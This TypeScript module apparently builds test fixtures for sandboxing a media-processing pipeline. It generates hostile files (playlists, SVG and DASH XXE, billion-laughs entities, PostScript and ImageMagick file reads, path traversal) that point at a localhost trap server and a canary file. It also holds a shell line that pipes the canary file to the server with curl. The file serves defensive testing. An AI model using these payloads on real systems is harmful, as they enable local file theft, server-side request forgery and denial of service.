/** Places that a hostile file would like somebody to look at. */
export interface Traps {
  /** A server that must not be asked, `http://127.0.0.1:1234`. */
  readonly address: string;
  /** A file outside every job that must not be read, as an absolute path. */
  readonly canary: string;
}

/** Files of text that make some program open other files or the network. */
export function hostileTexts({ address, canary }: Traps, number: number): [name: string, text: string][] {
  const host = address.replace(/^http:\/\//, '');
  const [ip, port] = host.split(':') as [string, string];
  const url = `${address}/${number}`;
  const places = [
    url,
    `file://${canary}`,
    canary,
    `concat:${canary}|${canary}`,
    `subfile,,start,0,end,100,,:${canary}`,
    `tcp://${host}`,
    `data:text/plain,${url}`,
    `crypto+${url}`,
    `../../../../../../..${canary}`,
  ];
  const place = places[number % places.length]!;
  return [
    ['hls', `#EXTM3U\n#EXT-X-TARGETDURATION:10\n#EXTINF:10.0,\n${place}\n#EXT-X-ENDLIST\n`],
    ['hls-master', `#EXTM3U\n#EXT-X-STREAM-INF:BANDWIDTH=1\n${place}\n`],
    [
      'hls-key',
      `#EXTM3U\n#EXT-X-MEDIA-SEQUENCE:0\n#EXT-X-KEY:METHOD=AES-128,URI="${place}"\n#EXTINF:1,\n${url}.ts\n#EXT-X-ENDLIST\n`,
    ],
    ['hls-map', `#EXTM3U\n#EXT-X-VERSION:7\n#EXT-X-MAP:URI="${place}"\n#EXTINF:1,\n${place}\n#EXT-X-ENDLIST\n`],
    [
      'dash',
      `<?xml version="1.0"?><MPD xmlns="urn:mpeg:dash:schema:mpd:2011" profiles="urn:mpeg:dash:profile:isoff-live:2011" type="static" minBufferTime="PT1S" mediaPresentationDuration="PT10S"><Period><AdaptationSet mimeType="video/mp4"><Representation id="1" bandwidth="1"><SegmentTemplate media="${url}/$Number$" initialization="${url}/init" duration="1" startNumber="1"/></Representation></AdaptationSet></Period></MPD>`,
    ],
    [
      'dash-xxe',
      `<?xml version="1.0"?><!DOCTYPE MPD [<!ENTITY x SYSTEM "file://${canary}"><!ENTITY y SYSTEM "${url}">]><MPD xmlns="urn:mpeg:dash:schema:mpd:2011" profiles="urn:mpeg:dash:profile:isoff-live:2011">&x;&y;</MPD>`,
    ],
    ['ffconcat', `ffconcat version 1.0\nfile '${place}'\nfile '${canary}'\n`],
    ['ffconcat-pipe', `ffconcat version 1.0\nfile '${canary}'\ninpoint 0\noption safe 0\n`],
    [
      'sdp',
      `v=0\no=- 0 0 IN IP4 ${ip}\ns=x\nc=IN IP4 ${ip}\nt=0 0\nm=video ${port} RTP/AVP 96\na=rtpmap:96 H264/90000\n`,
    ],
    [
      'svg-image',
      `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="99" height="99"><image xlink:href="${place}" width="9" height="9"/></svg>`,
    ],
    [
      'svg-xxe',
      `<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "file://${canary}">]><svg xmlns="http://www.w3.org/2000/svg"><text>&x;</text></svg>`,
    ],
    [
      'svg-laughs',
      `<!DOCTYPE svg [<!ENTITY a "${'ha'.repeat(50)}">${'bcdefghij'
        .split('')
        .map((name, i) => `<!ENTITY ${name} "${`&${'abcdefghi'[i]};`.repeat(10)}">`)
        .join('')}]><svg xmlns="http://www.w3.org/2000/svg"><text>&j;</text></svg>`,
    ],
    [
      'svg-huge',
      '<svg xmlns="http://www.w3.org/2000/svg" width="1000000000" height="1000000000"><rect width="100%" height="100%"/></svg>',
    ],
    ['html', `<!doctype html><img src="${url}"><script src="${url}"></script>`],
    ['pdf', `%PDF-1.7\n1 0 obj<</Type/Catalog/OpenAction<</S/URI/URI(${url})>>>>endobj\n`],
    ['postscript', `%!PS\n(${canary}) (r) file run showpage\n`],
    [
      'mvg',
      `push graphic-context\nviewbox 0 0 640 480\nfill 'url(${url})'\nimage over 0,0 9,9 '${canary}'\npop graphic-context\n`,
    ],
    ['msl', `<?xml version="1.0"?><image><read filename="${canary}"/><write filename="${canary}.out"/></image>`],
    ['smil', `<smil><body><video src="${place}"/></body></smil>`],
    ['asx', `<asx version="3.0"><entry><ref href="${place}"/></entry></asx>`],
    ['pls', `[playlist]\nFile1=${place}\nNumberOfEntries=1\n`],
    [
      'xspf',
      `<?xml version="1.0"?><playlist><trackList><track><location>${place}</location></track></trackList></playlist>`,
    ],
    [
      'smooth',
      `<?xml version="1.0"?><SmoothStreamingMedia Duration="1"><StreamIndex Url="${place}"/></SmoothStreamingMedia>`,
    ],
    ['rtsp', `RTSPtextrtsp://${host}/${number}`],
    ['url', `[InternetShortcut]\nURL=${url}\n`],
    ['ass', `[Script Info]\nScriptType: v4.00+\n[Fonts]\nfontname: ${canary}\n`],
    ['y4m', 'YUV4MPEG2 W30000 H30000 F30:1 Ip A1:1 C420\nFRAME\n'],
    ['shell', `#!/bin/sh\ncat ${canary} | curl -d @- ${url}\n`],
    ['php', `<?php echo file_get_contents('${canary}'); file_get_contents('${url}');`],
    ['lavf', `movie=${canary}\n`],
  ];
}
